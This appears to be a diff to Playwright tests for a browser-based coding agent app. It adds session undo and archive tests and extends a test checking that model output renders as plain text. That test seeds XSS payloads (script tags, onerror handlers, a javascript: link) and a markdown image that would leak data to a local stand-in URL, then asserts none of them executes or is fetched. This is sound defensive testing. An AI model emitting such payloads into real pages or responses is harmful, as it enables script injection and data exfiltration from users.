@@ -70,6 +70,12 @@ test("sessions and their messages survive a reload, in order; delete removes one
   const confirm = page.getByRole("dialog", { name: "Delete this session?" });
   await confirm.getByRole("button", { name: "Delete" }).click();
   await expect(nav.getByRole("button", { name: /^Refactor the parser/ })).toHaveCount(0);
+  // Undo within a few seconds brings it back, messages included; deleting again makes it final.
+  await page.getByRole("status").filter({ hasText: "Deleted" }).getByRole("button", { name: "Undo" }).click();
+  await expect(nav.getByRole("button", { name: /^Refactor the parser/ })).toBeVisible();
+  await nav.getByRole("button", { name: "Delete Refactor the parser" }).click();
+  await page.getByRole("dialog", { name: "Delete this session?" }).getByRole("button", { name: "Delete" }).click();
+  await expect(nav.getByRole("button", { name: /^Refactor the parser/ })).toHaveCount(0);
   await page.reload();
   await expect(nav.locator(".session-link")).toHaveCount(1);
   await expect(nav.getByRole("button", { name: /^Refactor the parser/ })).toHaveCount(0);
@@ -105,7 +111,11 @@ test("a corrupt record leaves every other session usable", async ({ page }) => {
 test("model output is rendered as text, never as HTML", async ({ page }) => {
   await openApp(page);
   const id = await newSession(page);
-  await seed(page, id, [["<img src=x onerror=alert(1)>", 'Here: <script>window.__pwned=1</script><img src="x" onerror="window.__pwned=2"> and [link](javascript:alert(1))']]);
+  await seed(page, id, [["<img src=x onerror=alert(1)>", 'Here: <script>window.__pwned=1</script><img src="x" onerror="window.__pwned=2"> and [link](javascript:alert(1)) and ![secret](http://127.0.0.1:9/leak.png?d=abc)']]);
+  const leaks: string[] = [];
+  page.on("request", (r) => {
+    if (r.url().includes("leak.png")) leaks.push(r.url());
+  });
   await page.reload();
   await expect(page.getByRole("article")).toHaveCount(2);
   await expect(page.getByRole("article").first()).toContainText("<img src=x onerror=alert(1)>");
@@ -114,6 +124,9 @@ test("model output is rendered as text, never as HTML", async ({ page }) => {
   expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
   const href = await page.getByRole("article").nth(1).locator("a").getAttribute("href");
   expect(href ?? "").not.toContain("javascript:");
+  // A markdown image pointing elsewhere is shown as text, never fetched (it could leak data).
+  await expect(page.getByRole("article").nth(1)).toContainText("[image: secret");
+  expect(leaks).toEqual([]);
 });
 
 test("without IndexedDB the app explains what is wrong instead of a blank page", async ({ page }) => {
@@ -130,4 +143,18 @@ test("the page is cross-origin isolated and looks like a product on first visit"
   expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
   await expect(page.getByRole("heading", { name: "A coding agent in your browser tab" })).toBeVisible();
   await expect(page.getByRole("button", { name: "Start the demo" })).toBeVisible();
+});
+
+test("archive and unarchive a session", async ({ page }) => {
+  await openApp(page);
+  await newSession(page);
+  const nav = page.getByRole("navigation", { name: "Sessions" });
+  await nav.getByRole("button", { name: /^Archive New session/ }).click();
+  await expect(nav.locator(".session-link")).toHaveCount(0);
+  await nav.getByRole("button", { name: "Show archived" }).click();
+  await expect(nav.locator(".session-link")).toHaveCount(1);
+  await nav.getByRole("button", { name: /^Unarchive New session/ }).click();
+  await expect(nav.locator(".session-link")).toHaveCount(0);
+  await nav.getByRole("button", { name: "Show active" }).click();
+  await expect(nav.locator(".session-link")).toHaveCount(1);
 });
